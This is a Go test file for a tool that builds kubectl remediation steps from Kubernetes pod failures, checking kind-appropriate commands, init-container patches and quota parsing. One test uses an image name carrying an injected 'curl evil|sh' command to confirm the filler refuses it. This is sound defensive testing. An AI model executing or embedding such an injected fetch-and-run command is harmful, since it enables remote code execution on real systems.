package classify

import (
	"slices"
	"strings"
	"testing"
)

func TestStepsFitTheKind(t *testing.T) {
	catalogue := mustCatalogue(t)
	for _, page := range catalogue.Pages() {
		for _, kind := range []string{"Deployment", "StatefulSet", "DaemonSet", "Job", "CronJob", "Pod"} {
			f := &Failure{Kind: "Pod", Namespace: "apps", Name: "web-1", Container: "app", WorkloadKind: kind, Workload: "web", Image: "r.example/web:1"}
			steps := page.Steps(f)
			if len(steps) == 0 {
				t.Errorf("%s for a %s: no step is left", page.Cause, kind)
			}
			all := strings.Join(steps, "\n")
			for _, no := range unfit(kind) {
				if strings.Contains(all, no) {
					t.Errorf("%s for a %s: says %q:\n%s", page.Cause, kind, no, all)
				}
			}
		}
	}
}

func unfit(kind string) []string {
	switch kind {
	case "Pod":
		return []string{"rollout undo pod/", "rollout restart pod/", `"template"`, "scale pod/", "set resources pod/", `"strategy"`}
	case "Job":
		return []string{"rollout undo job/", `'{"spec":{"template"`, "set image job/", "set resources job/"}
	case "CronJob":
		return []string{"rollout undo cronjob/", `'{"spec":{"template"`, `"strategy"`}
	case "StatefulSet":
		return []string{`"strategy"`}
	}
	return nil
}

func TestStepsForInitContainer(t *testing.T) {
	page := &Page{Fix: []string{"Patch: `kubectl patch <workload_kind>/<workload> -p '{\"spec\":{\"template\":{\"spec\":{\"containers\":[{\"name\":\"<container>\",\"command\":[\"x\"]}]}}}}'`"}}
	got := page.Steps(&Failure{Kind: "Pod", Container: "setup", Init: true, WorkloadKind: "CronJob", Workload: "nightly"})
	want := []string{"Patch: `kubectl patch cronjob/nightly -p '{\"spec\":{\"jobTemplate\":{\"spec\":{\"template\":{\"spec\":{\"initContainers\":[{\"name\":\"setup\",\"command\":[\"x\"]}]}}}}}}'`"}
	if !slices.Equal(got, want) {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
}

func TestFillLeavesWhatIsNoName(t *testing.T) {
	got := Fill("docker push <image> in <namespace>", &Failure{Namespace: "apps", Image: "x;curl evil|sh"})
	if want := "docker push <image> in apps"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestQuantityIsBounded(t *testing.T) {
	q, _, ok := ParseQuota("exceeded quota: q, requested: cpu=1e-999999999, used: cpu=1, limited: cpu=1")
	if !ok || len(q.Resources) != 1 || q.Resources[0].Requested != nil {
		t.Errorf("got %+v, %v", q, ok)
	}
}
